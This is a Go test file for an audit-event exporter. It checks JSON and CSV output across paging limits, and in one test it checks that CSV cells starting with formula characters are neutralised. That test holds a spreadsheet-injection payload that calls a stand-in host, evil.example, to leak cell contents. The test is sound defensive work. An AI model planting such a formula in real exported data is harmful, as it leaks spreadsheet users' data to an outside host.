package audit_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sallyport/audit"
)

// trail is events, newest first, as a store pages them.
type trail []audit.Event

func (t trail) AppendEvent(context.Context, audit.Event) error { return errors.New("read only") }

func (t trail) Events(_ context.Context, f audit.Filter) ([]audit.Event, error) {
	var found []audit.Event
	for _, e := range t {
		if (f.Before == "" || e.ID < f.Before) && len(found) < f.Limit {
			found = append(found, e)
		}
	}
	return found, nil
}

func events(n int) trail {
	t := make(trail, n)
	for i := range t {
		t[n-1-i] = audit.New(audit.SignInRefused, "system") // IDs grow
	}
	return t
}

func TestExport(t *testing.T) {
	for _, n := range []int{0, 1, 499, 500, 501, 1200} {
		for _, limit := range []int{0, 1, 500, 700} {
			want := n
			if limit > 0 {
				want = min(n, limit)
			}
			all := events(n)
			var text strings.Builder
			if err := audit.Export(t.Context(), all, audit.Filter{Limit: limit}, audit.JSON, &text); err != nil {
				t.Fatal(err)
			}
			var rows []struct{ ID string }
			if err := json.Unmarshal([]byte(text.String()), &rows); err != nil {
				t.Fatalf("%d events: %v", n, err)
			}
			text.Reset()
			if err := audit.Export(t.Context(), all, audit.Filter{Limit: limit}, audit.CSV, &text); err != nil {
				t.Fatal(err)
			}
			lines, err := csv.NewReader(strings.NewReader(text.String())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != want || len(lines) != want+1 {
				t.Fatalf("%d events, limit %d: %d objects and %d lines", n, limit, len(rows), len(lines))
			}
			for i, row := range rows {
				if row.ID != all[i].ID || lines[i+1][0] != all[i].ID {
					t.Fatalf("event %d of %d is another one", i, n)
				}
			}
		}
	}
	if err := audit.Export(t.Context(), events(1), audit.Filter{}, "xml", new(strings.Builder)); err == nil {
		t.Error("exports as xml")
	}
}

// A spreadsheet takes what begins with = for a formula and runs it.
func TestExportIsInertInSpreadsheets(t *testing.T) {
	e := audit.New(audit.SignInRefused, "system")
	e.Person, e.Reason, e.Object, e.IDP = `=HYPERLINK("https://evil.example/?"&A1)`, "+1", "-2", "@SUM(A1)"
	e.Reference = "\t=1"
	e.Detail = []byte(`{"want":"a, \"b\""}`)
	var text strings.Builder
	if err := audit.Export(t.Context(), trail{e}, audit.Filter{}, audit.CSV, &text); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(strings.NewReader(text.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'@SUM(A1)", "'-2", `'=HYPERLINK("https://evil.example/?"&A1)`, "'\t=1", "'+1", "", `{"want":"a, \"b\""}`}
	if diff := cmp.Diff(want, lines[1][4:]); diff != "" {
		t.Error(diff)
	}
}
